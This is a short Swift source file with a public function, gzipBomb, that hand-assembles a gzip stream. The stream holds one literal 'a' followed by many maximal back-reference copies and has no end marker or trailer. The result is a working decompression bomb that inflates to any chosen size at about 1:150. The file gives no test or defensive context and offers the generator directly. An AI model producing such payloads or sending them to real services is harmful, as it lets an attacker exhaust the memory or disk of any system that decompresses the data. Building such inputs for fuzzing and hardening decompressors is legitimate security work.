/// A gzip stream without an end whose content is `bytes` times the letter a, at about 1:150.
public func gzipBomb(bytes: Int) -> [UInt8] {
    var stream: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3]
    var pending: UInt32 = 0
    var count: UInt32 = 0
    func put(_ bits: String) {
        for bit in bits.utf8 {
            pending |= (bit == 0x31 ? 1 : 0) << count
            count += 1
            guard count == 8 else { continue }
            stream.append(UInt8(pending))
            pending = 0
            count = 0
        }
    }
    // One block with fixed codes: an a, then copies of the 258 bytes that begin one byte back.
    put("0" + "10" + "10010001")
    for _ in 0..<(bytes / 258) { put("11000101" + "00000") }
    return stream
}
